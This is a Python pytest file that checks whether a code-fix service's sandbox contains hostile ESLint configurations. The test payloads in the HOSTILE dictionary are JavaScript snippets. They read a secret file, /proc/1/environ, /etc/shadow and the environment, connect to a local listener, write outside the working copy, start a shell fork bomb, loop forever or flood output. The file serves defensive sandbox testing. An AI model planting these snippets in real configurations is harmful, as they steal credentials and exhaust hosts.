"""The team's ESLint configuration is the repository's code. One that reads a worker's file and memfix's secrets,
connects to a listener on the worker, writes outside its copy, forks without end, loops for ever or prints a
gigabyte — through a real `memfix serve`, the fake GitHub in a process of its own and the real ESLint 9 installed from
the fake npm registry: nothing leaves the sandbox, and each `/autofix` gets its answer (ESLint's fix where the
configuration still runs; where it cannot, the reason, and memfix's own reading standing in)."""

from __future__ import annotations

import json
import socket
import threading
import uuid
from pathlib import Path

import pytest

from tests.fakes import payloads as P
from tests.served import serving

REPO = "acme/web"
ESLINT9 = {"eslint": "9.17.0", "@eslint/js": "9.17.0", "globals": "15.14.0"}
TOOL_SECONDS = 8  # a run of the team's tool: a configuration that loops for ever is stopped here
SECRET_FILE = "worker-secret.txt"
BASE = """const js = require('@eslint/js')
module.exports = [js.configs.recommended, { languageOptions: { sourceType: 'commonjs' },
  plugins: { leak: { rules: { out: { create: (context) => ({ Program (node) {
    context.report({ node, message: 'seen: ' + seen.join(' | ') }) } }) } } } },
  rules: { semi: ['error', 'never'], 'leak/out': 'error' } }]
"""
HOSTILE = {  # what the configuration does as ESLint loads it, before it hands ESLint its rules
    "reads a worker file and memfix's secrets": """const fs = require('fs')
const seen = []
for (const path of ['{secret_file}', '/proc/1/environ', '/etc/shadow']) {{
  try {{ seen.push(fs.readFileSync(path, 'utf8')) }} catch (e) {{ seen.push('unreadable ' + path) }}
}}
seen.push(JSON.stringify(process.env))
""",
    "connects to a listener on the worker": """const seen = ['connecting']
const s = require('net').connect({port}, '127.0.0.1', () => s.write('{marker}'))
s.on('error', () => {{}})
""",
    "writes outside its copy": """const fs = require('fs')
const seen = []
for (const [i, path] of ['{outside}', '/tmp/{marker}', '{served}/{marker}'].entries()) {{
  try {{ fs.writeFileSync(path, 'written'); seen.push('wrote ' + i) }} catch (e) {{ seen.push('refused ' + i) }}
}}
""",
    "forks without end": """const seen = ['forking']
require('child_process').spawn('/bin/sh', ['-c', 'f() {{ f | f & }}; f'], {{ detached: true, stdio: 'ignore' }})
""",
    "loops for ever": "const seen = []\nwhile (true) {{}}\n",
    "prints a gigabyte": """const seen = []
const mib = 'x'.repeat(1 << 20)
for (let i = 0; i < 1024;) {{  // ESLint's stdout does not block: a full pipe is tried again
  try {{ require('fs').writeSync(1, mib); i++ }} catch (e) {{ if (e.code !== 'EAGAIN') throw e }}
}}
""",
}
STOPPED = {"loops for ever": f"did not finish within {TOOL_SECONDS} s", "prints a gigabyte": "printed more than"}


def _another_tenants_push_gets_its_pr_meanwhile(served, other: int, number: int) -> None:
    gh = served.github
    base = gh.add_repo("other/api", {"README.md": "# api\n"})
    after = gh.push("other/api", "main", {"app/util.py": "import os\n\n\ndef greet(name):\n    return name\n"})
    assert served.post("push", P.push(installation=other, repo="other/api", before=base, after=after, commits=[
        {"added": ["app/util.py"], "modified": [], "removed": []}])) == 202
    served.wait_for(lambda: gh.pulls("other/api"), 60, "the other tenant's PR")
    assert not [c for c in gh.comments(REPO, number) if "**AutoFix** finished" in c["body"]], \
        "the hostile configuration's job had already finished: nothing ran meanwhile"


class Listener:
    """A TCP listener on the worker's loopback that counts who reaches it."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.reached = 0
        self.sock.settimeout(0.2)
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._accept, daemon=True)
        self._thread.start()

    def _accept(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.reached += 1
            conn.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join(5)
        self.sock.close()


@pytest.mark.parametrize("kind", list(HOSTILE))
def test_a_hostile_eslint_configuration_reaches_nothing_and_the_job_answers(
        kind, tmp_path, pg_url, tenant_id, app_key, npmhouse_registry, npm_tools, eslint9):
    from core.tools import sandbox as sandboxes

    if sandboxes.find()[0] is None:
        pytest.skip(f"NO SANDBOX: {sandboxes.find()[1]} (.ci/run installs bubblewrap)")
    marker = f"memfix-hostile-{uuid.uuid4().hex}"
    secret = f"secret-{uuid.uuid4().hex}"
    (tmp_path / SECRET_FILE).write_text(secret)
    outside = tmp_path / f"{marker}.txt"
    listener = Listener()
    config = HOSTILE[kind].format(secret_file=tmp_path / SECRET_FILE, port=listener.port, marker=marker,
                                  outside=outside, served=tmp_path) + BASE
    try:
        with serving(tmp_path, pg_url, tenant_id, app_key, MEMFIX_TEAM_TOOLS="true",
                     MEMFIX_NPM_REGISTRY=npmhouse_registry.url, MEMFIX_TOOL_CACHE=str(npm_tools.root),
                     MEMFIX_TOOL_SECONDS=str(TOOL_SECONDS), WORKER_SECRET=secret) as served:
            gh = served.github
            gh.add_repo(REPO, {"README.md": "# web\n", "eslint.config.js": config,
                               "package.json": json.dumps({"name": "web", "devDependencies": ESLINT9})})
            gh.push(REPO, "feature", {"src/a.js": "const x = 1;\nmodule.exports = x\n"}, base="main")
            pr = gh.open_pull(REPO, "feature", "main", user="alice", title="A feature")
            cid = gh.add_comment(REPO, pr["number"], "/autofix", user="alice")["id"]
            assert served.post("issue_comment", P.issue_comment("/autofix", installation=tenant_id, repo=REPO,
                                                                number=pr["number"], comment_id=cid)) == 202
            if kind == "loops for ever":  # another tenant's push is worked on while that job waits on its tool
                _another_tenants_push_gets_its_pr_meanwhile(served, tenant_id + 1, pr["number"])
            served.wait_idle(180)
            [reply] = [c["body"] for c in gh.comments(REPO, pr["number"]) if c["user"]["login"] == "memfix[bot]"]
            said = "\n".join([reply, *(p["body"] for p in gh.pulls(REPO)),
                              *(c["body"] for c in gh.commit_comments(REPO))])
            log = served.log()
    finally:
        listener.close()

    assert "**AutoFix** finished" in reply, reply
    if kind in STOPPED:  # the configuration cannot run here: said, with why, and memfix's own reading stands in
        assert "the team's ESLint 9.17.0 does not run with its configuration here" in reply, reply
        assert STOPPED[kind] in reply and "stands in for it" in reply, reply
    else:  # it runs, in the sandbox: ESLint's own fix of the PR's file
        assert "`src/a.js`: PROMOTED" in reply, reply
    for leaked in (secret, marker, "GITHUB_APP_PRIVATE_KEY", "BEGIN RSA PRIVATE KEY", "WORKER_SECRET"):
        assert leaked not in said, f"{leaked!r} left the sandbox into GitHub"
    assert secret not in log
    assert listener.reached == 0
    assert not outside.exists() and not Path("/tmp", marker).exists() and not (tmp_path / marker).exists()
